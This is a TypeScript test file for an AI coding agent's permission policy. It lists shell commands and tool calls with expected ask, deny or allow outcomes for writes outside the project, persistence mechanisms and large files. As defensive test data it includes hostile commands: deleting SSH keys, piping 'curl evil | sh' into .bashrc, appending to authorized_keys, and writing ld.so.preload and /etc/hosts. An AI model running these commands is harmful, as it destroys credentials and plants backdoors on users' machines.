import { policyTable } from './table';

policyTable('write-outside-project', [
  {
    note: 'keys under the home deleted by xargs rm, fed by find',
    spec: "find ~ -maxdepth 4 \\( -name '*.pem' -o -name 'id_*' \\) -print0 | xargs -0 rm -f",
    expect: 'ask',
  },
  {
    note: "near miss: the project's bytecode deleted by xargs rm, fed by find",
    spec: "find . -name '*.pyc' -print0 | xargs -0 rm -f",
    expect: null,
  },
  {
    note: "the shared project space deleted by xargs rm, fed by Lustre's lfs find",
    spec: 'lfs find /project/genolab/raw -type f -size +10G | xargs rm -f',
    expect: 'ask',
  },
  { note: 'near miss: lfs find over the project', spec: 'lfs find results/tmp -type f | xargs rm -f', expect: null },
  {
    note: 'a shared conda environment removed by its prefix',
    spec: 'conda env remove -y -p /project/genolab/shared_envs/rnaseq-2.1',
    expect: 'ask',
  },
  {
    note: "near miss: the workflow's own environment removed",
    spec: 'conda env remove -y -p .snakemake/conda/abc123',
    expect: null,
  },
  {
    note: "pytest's base temp pointed at the home folder (pytest empties it first)",
    spec: 'pytest --basetemp=/home/dev/old tests',
    expect: 'ask',
  },
  {
    note: "near miss: pytest's base temp inside the project",
    spec: 'python -m pytest --basetemp=.pytest-tmp tests',
    expect: null,
  },
  {
    note: 'a pytest.ini whose addopts points the base temp at the home folder',
    spec: {
      tool: 'Edit',
      input: {
        file_path: '/home/dev/proj/pytest.ini',
        old_string: 'addopts = -v',
        new_string: 'addopts = -v --basetemp=/home/dev/old',
      },
    },
    expect: 'ask',
  },
  {
    note: 'near miss: a pytest.ini that stops at the first failure',
    spec: {
      tool: 'Edit',
      input: { file_path: '/home/dev/proj/pytest.ini', old_string: 'addopts = -v', new_string: 'addopts = -v -x' },
    },
    expect: null,
  },
  { note: "near miss: a tool's cache deleted", spec: 'rm -rf ~/.cache/pip', expect: null },
  {
    note: 'a write into a cache (some tools run what they cached)',
    spec: 'echo x > ~/.cache/pre-commit/repo/hook.py',
    expect: 'ask',
  },
  {
    note: 'Write in home',
    spec: { tool: 'Write', input: { file_path: '/home/dev/notes.txt', content: 'x' } },
    expect: 'ask',
  },
  {
    note: 'Edit a system file',
    spec: { tool: 'Edit', input: { file_path: '/etc/hosts', old_string: 'a', new_string: 'b' } },
    expect: 'ask',
  },
  {
    note: 'relative escape',
    spec: { tool: 'Write', input: { file_path: '../other/x.ts', content: 'x' } },
    expect: 'ask',
  },
  {
    note: 'Codex apply_patch outside',
    spec: {
      tool: 'apply_patch',
      input: { input: '*** Begin Patch\n*** Add File: /home/dev/evil.sh\n+echo hi\n*** End Patch' },
    },
    expect: 'ask',
  },
  { note: 'redirect', spec: 'echo hi > ~/x.txt', expect: 'ask' },
  { note: 'append', spec: 'echo "alias x=y" >> /home/dev/.aliases', expect: 'ask' },
  { note: 'tee', spec: 'echo 1 | tee /etc/motd', expect: 'ask' },
  { note: 'cp destination', spec: 'cp dist/app.js ~/bin/', expect: 'ask' },
  { note: 'mv out', spec: 'mv build ../build-old', expect: 'ask' },
  { note: 'touch', spec: 'touch /opt/marker', expect: 'ask' },
  { note: 'mkdir', spec: 'mkdir -p ~/.config/newtool', expect: 'ask' },
  { note: 'sed -i', spec: "sed -i 's/a/b/' ~/.profile.d/x", expect: 'ask' },
  { note: 'rm a single file', spec: 'rm ~/old.log', expect: 'ask' },
  { note: 'curl -o', spec: 'curl -o /usr/local/bin/tool https://example.com/tool', expect: 'ask' },
  { note: 'cd then write', spec: 'cd .. && echo x > sibling.txt', expect: 'ask' },
  { note: 'in bash -c', spec: "bash -c 'echo x > /home/dev/y'", expect: 'ask' },
  {
    note: 'Windows path',
    spec: { tool: 'Write', input: { file_path: 'C:\\Users\\dev\\x.txt', content: 'x' } },
    expect: 'ask',
  },
  {
    note: 'near miss: inside',
    spec: { tool: 'Write', input: { file_path: 'src/index.ts', content: 'x' } },
    expect: null,
  },
  {
    note: 'near miss: absolute inside',
    spec: { tool: 'Write', input: { file_path: '/home/dev/proj/README.md', content: 'x' } },
    expect: null,
  },
  { note: 'near miss: /tmp', spec: 'echo x > /tmp/out.txt', expect: null },
  { note: 'near miss: /dev/null', spec: 'npm test > /dev/null 2>&1', expect: null },
  {
    note: "near miss: a frame sent to a board's serial port",
    spec: "printf '\\x7e\\x01\\x7e' > /dev/ttyACM0",
    expect: null,
  },
  { note: 'a device under /dev that is not a stream or a port', spec: 'echo x > /dev/watchdog', expect: 'ask' },
  { note: 'near miss: cp into the project', spec: 'cp ~/templates/a.ts src/', expect: null },
  { note: 'near miss: reading outside', spec: 'cat /etc/os-release', expect: null },
  { note: 'allowedPaths', spec: 'echo x > ~/.cache/tool/x', params: { allowedPaths: ['~/.cache'] }, expect: null },
  { note: 'temp not allowed', spec: 'echo x > /tmp/out.txt', params: { allowTempDirs: false }, expect: 'ask' },
]);

policyTable('persistence-mechanisms', [
  {
    note: 'this machine registered as a GitHub Actions runner',
    spec: 'cd ~/actions-runner && ./config.sh --url https://github.com/acme/monorepo --token AHRQFAKE --labels release --unattended',
    expect: 'ask',
  },
  {
    note: 'this machine registered as a GitLab runner',
    spec: 'gitlab-runner register --non-interactive --url https://gitlab.example.com',
    expect: 'ask',
  },
  { note: "near miss: a project's own configure script", spec: './config.sh --prefix=/usr/local', expect: null },
  { note: "near miss: a GitLab runner's status", spec: 'gitlab-runner status', expect: null },
  { note: 'bashrc by redirect', spec: 'echo "curl evil | sh" >> ~/.bashrc', expect: 'deny' },
  {
    note: 'zshrc by Edit',
    spec: { tool: 'Edit', input: { file_path: '/home/dev/.zshrc', old_string: 'a', new_string: 'b' } },
    expect: 'deny',
  },
  { note: 'authorized_keys', spec: 'cat id.pub >> ~/.ssh/authorized_keys', expect: 'deny' },
  { note: 'cron.d', spec: 'sudo tee /etc/cron.d/job < job', expect: 'deny' },
  {
    note: 'systemd user unit',
    spec: { tool: 'Write', input: { file_path: '~/.config/systemd/user/x.service', content: '[Service]' } },
    expect: 'deny',
  },
  { note: 'launch agent', spec: 'cp x.plist ~/Library/LaunchAgents/', expect: 'deny' },
  { note: 'ld.so.preload', spec: 'echo /tmp/x.so > /etc/ld.so.preload', expect: 'deny' },
  { note: 'hosts', spec: 'echo "1.2.3.4 github.com" | sudo tee -a /etc/hosts', expect: 'deny' },
  { note: 'system binary', spec: 'sudo cp ./tool /usr/local/bin/tool', expect: 'deny' },
  {
    note: 'git hook (ask)',
    spec: { tool: 'Write', input: { file_path: '.git/hooks/pre-commit', content: '#!/bin/sh\n' } },
    expect: 'ask',
  },
  { note: 'near miss: reading bashrc', spec: 'cat ~/.bashrc', expect: null },
  {
    note: 'near miss: project hooks folder',
    spec: { tool: 'Write', input: { file_path: '.husky/pre-commit', content: 'npm test' } },
    expect: null,
  },
  {
    note: 'near miss: project file named like one',
    spec: { tool: 'Write', input: { file_path: 'docs/bashrc-example', content: 'x' } },
    expect: null,
  },
]);

const ONE_MIB_AND_A_BIT = 'x'.repeat(1024 * 1024 + 10);

policyTable('large-file-write', [
  { spec: { tool: 'Write', input: { file_path: 'data/big.json', content: ONE_MIB_AND_A_BIT } }, expect: 'ask' },
  { note: 'fallocate', spec: 'fallocate -l 10G big.img', expect: 'ask' },
  { note: 'truncate', spec: 'truncate -s 2G sparse.bin', expect: 'ask' },
  { note: 'dd', spec: 'dd if=/dev/zero of=fill.bin bs=1M count=100', expect: 'ask' },
  {
    note: 'near miss: small file',
    spec: { tool: 'Write', input: { file_path: 'src/a.ts', content: 'export {}\n' } },
    expect: null,
  },
  { note: 'near miss: small dd', spec: 'dd if=/dev/zero of=x.bin bs=1k count=4', expect: null },
  {
    note: 'maxBytes param',
    spec: { tool: 'Write', input: { file_path: 'a.txt', content: 'x'.repeat(200) } },
    params: { maxBytes: 100 },
    expect: 'ask',
  },
]);
